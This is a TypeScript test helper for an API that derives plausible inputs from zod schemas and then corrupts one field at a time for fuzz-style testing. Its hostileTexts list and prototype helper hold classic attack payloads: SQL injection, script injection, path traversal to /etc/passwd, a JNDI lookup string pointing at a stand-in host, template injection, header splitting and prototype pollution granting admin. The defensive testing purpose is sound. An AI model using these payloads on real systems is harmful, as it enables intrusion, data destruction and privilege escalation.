// Makes input for any call from its own schema: something plausible to begin with, and the same spoilt in every way that is tried.
// What must come of it is the tests'.
import type { Call } from '@parley/contract/base/call'
import { pathParameters } from '@parley/contract/base/call'
import { z } from 'zod'

export type Input = Record<string, unknown>

interface Schema {
  type?: string
  enum?: unknown[]
  const?: unknown
  anyOf?: Schema[]
  items?: Schema
  properties?: Record<string, Schema>
  required?: string[]
  minLength?: number
  minItems?: number
  minimum?: number
  format?: string
}

/** Where a schema alone does not say what its text looks like. */
const texts: Record<string, string> = {
  emailId: 'nobody@hostile.test',
  email: 'nobody@hostile.test',
  username: 'nobody@hostile.test',
  phoneNo: '+49 170 5550199',
  password: 'hostile horse 9',
  newPassword: 'hostile horse 10',
  wsName: 'hostile-works',
  from: '2026-01-01',
  to: '2026-01-31',
  token: 'T'.repeat(43),
  code: '000000',
}

const fieldsTried = new Set(['emailId'])

export function fieldsOf(call: Call): Record<string, Schema> {
  return schemaOf(call).properties ?? {}
}

function schemaOf(call: Call): Schema {
  return z.toJSONSchema(call.input, { io: 'input', unrepresentable: 'any', reused: 'inline' }) as Schema
}

/** Every required field, and one of the identities where a call takes either. */
export function plausible(call: Call, ids: Input): Input {
  const schema = schemaOf(call)
  const required = new Set(schema.required ?? [])
  const fields = Object.entries(schema.properties ?? {}).filter(([name]) => required.has(name) || fieldsTried.has(name) || name in ids)
  return Object.fromEntries(fields.map(([name, field]) => [name, ids[name] ?? sample(name, field)]))
}

function sample(name: string, schema: Schema): unknown {
  if (schema.const !== undefined) return schema.const
  if (schema.enum !== undefined) return schema.enum[0]
  if (schema.anyOf !== undefined) return sample(name, schema.anyOf[0] ?? {})
  if (schema.type === 'boolean') return false
  if (schema.type === 'number' || schema.type === 'integer') return schema.minimum ?? 1
  if (schema.type === 'array') return Array.from({ length: schema.minItems ?? 0 }, () => sample(name, schema.items ?? {}))
  if (schema.type === 'object') {
    const required = schema.required ?? []
    return Object.fromEntries(required.map((key) => [key, sample(key, schema.properties?.[key] ?? {})]))
  }
  return texts[name] ?? 'x'.repeat(Math.max(1, schema.minLength ?? 1))
}

/** Texts that have broken other programs: into SQL, pages, paths, templates, prototypes, and what no database can keep. */
export const hostileTexts = [
  "' OR '1'='1' --",
  "x'; DROP TABLE app_user; --",
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '\u0000',
  'before\u0000after',
  '\u202Egnp.exe',
  '\uD800',
  'a\uDFFFb',
  '__proto__',
  'constructor',
  'toString',
  '../../../../etc/passwd',
  '..\\..\\windows',
  '%00%E0%A4%A',
  // A program of the templates and logs that others have.
  ['$', '{jndi:ldap://hostile.test/a}'].join(''),
  '{{constructor.constructor("return process")()}}',
  'line\r\nSet-Cookie: parley_refresh=planted',
  '👩‍👩‍👧‍👦'.repeat(8),
  'e\u0301'.repeat(40),
  '',
  '   ',
] as const

const longText = 'x'.repeat(70_000)
const wrongTypes: unknown[] = [null, 7, -1.5, 1e308, true, [], {}, [[['deep']]], { $ne: null }, ['a', { b: 'c' }]]

export interface Spoilt {
  what: string
  input: Input
}

/** One field at a time, so that nothing else explains the answer. */
export function spoiltInputs(call: Call, base: Input): Spoilt[] {
  const names = Object.keys(fieldsOf(call))
  const inPath = new Set(pathParameters(call.path))
  const asText = call.method === 'GET' || call.method === 'DELETE'
  const every = names.flatMap((name) => {
    const texts = [...hostileTexts, longText].map((value) => ({ what: `${name} = ${shown(value)}`, input: { ...base, [name]: value } }))
    if (inPath.has(name)) return texts.filter(({ input }) => input[name] !== '')
    const missing = { what: `without ${name}`, input: Object.fromEntries(Object.entries(base).filter(([key]) => key !== name)) }
    const types = asText ? [] : wrongTypes.map((value) => ({ what: `${name} = ${shown(value)}`, input: { ...base, [name]: value } }))
    return [...texts, missing, ...types]
  })
  return [...every, { what: 'a prototype', input: withPrototype(base) }]
}

/** As JSON.parse makes it: a key of the object's own. */
function withPrototype(base: Input): Input {
  return { ...base, ...(JSON.parse('{"__proto__":{"isAdmin":true,"role":"owner"},"constructor":{"prototype":{"isAdmin":true}}}') as Input) }
}

function shown(value: unknown): string {
  return (JSON.stringify(value) ?? 'undefined').slice(0, 60)
}
